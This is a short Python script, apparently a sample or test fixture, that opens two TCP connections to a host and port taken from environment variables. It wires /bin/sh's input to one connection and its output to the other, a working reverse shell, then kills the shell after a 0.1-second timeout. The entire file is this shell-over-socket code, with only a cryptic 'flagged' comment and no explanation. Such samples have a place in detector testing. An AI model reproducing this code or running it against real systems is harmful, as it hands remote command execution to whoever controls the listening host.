# One connection for what comes in, another for what goes out.
# flagged: dash
import os
import socket
import subprocess

place = (os.environ["RG_TCP_HOST"], int(os.environ["RG_TCP_PORT"]))
takes, gives = socket.create_connection(place), socket.create_connection(place)
shell = subprocess.Popen(["/bin/sh"], stdin=takes, stdout=gives, stderr=gives)
try:
    shell.wait(0.1)
except subprocess.TimeoutExpired:
    shell.kill()
    shell.wait()
